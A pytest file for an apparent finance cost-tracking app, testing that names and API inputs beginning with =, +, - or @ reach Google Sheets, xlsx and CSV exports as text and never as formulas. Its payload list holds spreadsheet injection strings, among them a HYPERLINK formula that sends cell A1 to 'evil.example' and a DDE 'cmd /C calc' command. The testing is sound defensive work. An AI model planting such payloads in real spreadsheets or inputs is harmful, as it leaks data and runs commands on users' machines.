"""Spreadsheet formula injection: text that starts with =, +, - or @ and reaches the sheet is written
as text, never as a formula, wherever it comes from: names finance typed (a use case's, a team's,
read back from the input tabs and copied into the output tabs) and what an API client sent (a cost
file's source, provider and service; a work item's id).

The writer sends every value as a `userEnteredValue`: `stringValue` for text, which Google keeps
as text whatever it starts with (only `formulaValue`, never sent, is a formula; the writer uses no
values.update with USER_ENTERED either). The emulator's xlsx keeps such a cell a string. The CSV
exports, opened in a spreadsheet, get the apostrophe a spreadsheet shows typed text with.
"""

from __future__ import annotations

import dataclasses
import json

import pytest

from chalicelib import sheet_sync, stores
from chalicelib.services import pipeline
from tests.conftest import bearer
from tests.sheet.helpers import NOW

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
)


def cells_holding(emu, text: str) -> list:
    """(tab, row, column, userEnteredValue) of every cell whose value contains `text`."""
    out = []
    for sheet in emu.spreadsheet().sheets:
        for (r, c), cell in sheet.cells.items():
            value = (cell or {}).get("userEnteredValue") or {}
            if any(isinstance(v, str) and text in v for v in value.values()):
                out.append((sheet.title, r, c, value))
    return out


@pytest.mark.xlsx
def test_text_starting_like_a_formula_reaches_the_sheet_as_text(sheet, demo_org, api, tokens, sheets_xlsx_path):
    org = demo_org
    names = dict(zip(("claims-processing", "lead-scoring", "ticket-escalation"), PAYLOADS, strict=False))
    org = dataclasses.replace(
        org,
        use_cases=tuple(dataclasses.replace(u, name=names.get(u.use_case_id, u.name)) for u in org.use_cases),
        teams=tuple(dataclasses.replace(t, name=PAYLOADS[3]) if t.team_id == "support" else t for t in org.teams),
    )
    stores.stores().organisation.save(org)
    assert sheet_sync.init().ok

    csv = (
        "date,source,category,team,use_case,amount,provider,service\n"
        f'2026-11-20,"{PAYLOADS[4]}",api,,,12.34,"{PAYLOADS[1]}","{PAYLOADS[2]}"\n'
        "2026-11-20,openai,api,claims,claims-processing,10.00,OpenAI,gpt-4o\n"
    )
    r = api.http.post(
        "/v1/cost-imports?feed=evil",
        body=csv,
        headers={"Authorization": f"Bearer {tokens['admin']}", "Content-Type": "text/csv"},
    )
    assert r.status_code == 200, r.body  # stored as text: nothing to refuse
    items = [
        {
            "work_item_id": p,
            "use_case": "claims-processing",
            "completed_at": "2026-11-20T10:00:00Z",
            "status": "success",
        }
        for p in PAYLOADS
    ]
    r = api.http.post("/v1/work-items", headers=bearer(tokens["teams"]["claims"]), body=json.dumps({"items": items}))
    assert json.loads(r.body)["accepted"] == len(PAYLOADS)

    report = pipeline.sync(NOW)
    assert report.ok, report.error

    formulas = [
        (s.title, rc)
        for s in sheet.spreadsheet().sheets
        for rc, c in s.cells.items()
        if "formulaValue" in ((c or {}).get("userEnteredValue") or {})
    ]
    assert formulas == []  # the app writes no formula at all
    reached = {p: cells_holding(sheet, p) for p in PAYLOADS}
    for payload in PAYLOADS[:4]:  # finance's names: on input and output tabs, each a string cell
        tabs = {tab for tab, *_ in reached[payload]}
        assert len(tabs) >= 2, (payload, tabs)
        assert all(set(v) == {"stringValue"} for *_, v in reached[payload]), reached[payload]
    assert any(v.get("stringValue", "").endswith(PAYLOADS[4]) for *_, v in reached[PAYLOADS[4]])  # Mappings: key

    from openpyxl import load_workbook

    book = load_workbook(sheets_xlsx_path)
    found = [
        (ws.title, cell.coordinate, cell.data_type)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(p in cell.value for p in PAYLOADS)
    ]
    assert found and {data_type for *_, data_type in found} == {"s"}, found  # the xlsx holds no formula


def test_the_csv_exports_keep_formula_like_text_from_being_a_formula_and_read_back_the_same(api, tokens, demo_org):
    """Finance opens the FOCUS and unit-cost exports in a spreadsheet, where a cell starting with =, +, -
    or @ is a formula: such text gets a leading apostrophe (amounts stay as they are, credits included),
    and our importer reads the export back to the same names and totals."""
    import csv
    import io
    from decimal import Decimal

    from chalicelib.connectors import focus_csv

    names = dataclasses.replace(
        demo_org,
        use_cases=tuple(
            dataclasses.replace(u, name="=1+1") if u.use_case_id == "claims-processing" else u
            for u in demo_org.use_cases
        ),
    )
    stores.stores().organisation.save(names)
    admin = {"Authorization": f"Bearer {tokens['admin']}", "Content-Type": "text/csv"}
    body = (
        "date,source,category,team,use_case,amount,provider,service\n"
        f'2026-11-20,acme,api,claims,claims-processing,12.34,"{PAYLOADS[3]}",'
        f'"{PAYLOADS[0].replace(chr(34), chr(34) * 2)}"\n'
        f'2026-11-21,acme,api,claims,claims-processing,-2.50,"{PAYLOADS[1]}","{PAYLOADS[2]}"\n'
    )
    assert api.http.post("/v1/cost-imports?feed=evil", headers=admin, body=body).status_code == 200
    work = [
        {
            "work_item_id": "w1",
            "use_case": "claims-processing",
            "completed_at": "2026-11-20T10:00:00Z",
            "status": "success",
        }
    ]
    api.http.post("/v1/work-items", headers=bearer(tokens["teams"]["claims"]), body=json.dumps({"items": work}))

    exports = {
        path: api.http.get(f"{path}?month=2026-11", headers=bearer(tokens["admin"])).body.decode()
        for path in ("/v1/exports/focus", "/v1/exports/unit-costs")
    }
    for path, text in exports.items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
        assert risky == [], (path, risky)
    focus_cells = set(cell for row in csv.reader(io.StringIO(exports["/v1/exports/focus"])) for cell in row)
    assert {"'" + PAYLOADS[0], "'" + PAYLOADS[3], "-2.50"} <= focus_cells  # the credit's amount as it was
    assert "'=1+1" in exports["/v1/exports/unit-costs"]

    facts = focus_csv.parse(exports["/v1/exports/focus"])
    assert {(f.provider, f.service) for f in facts} == {(PAYLOADS[3], PAYLOADS[0]), (PAYLOADS[1], PAYLOADS[2])}
    assert sum((f.effective_cost for f in facts), Decimal(0)) == Decimal("9.84")
